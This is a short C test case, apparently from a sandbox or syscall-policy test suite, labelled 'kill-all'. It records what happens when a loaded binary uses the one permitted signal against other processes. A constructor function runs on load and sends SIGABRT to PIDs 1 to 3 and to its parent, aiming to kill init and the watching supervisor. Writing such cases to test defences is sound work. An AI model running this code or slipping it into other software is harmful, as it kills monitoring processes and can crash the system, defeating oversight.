/* Case: C015 kill-all
 * Attacks: the process that watches: the one signal that the policy lets through, sent to others
 * On-reference: same
 * Undefended: killed */
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

__attribute__((constructor)) static void abort_others(void)
{
	for (int pid = 1; pid < 4; pid++)
		if (pid != getpid())
			syscall(SYS_tgkill, pid, pid, SIGABRT);
	syscall(SYS_tgkill, getppid(), getppid(), SIGABRT);
}
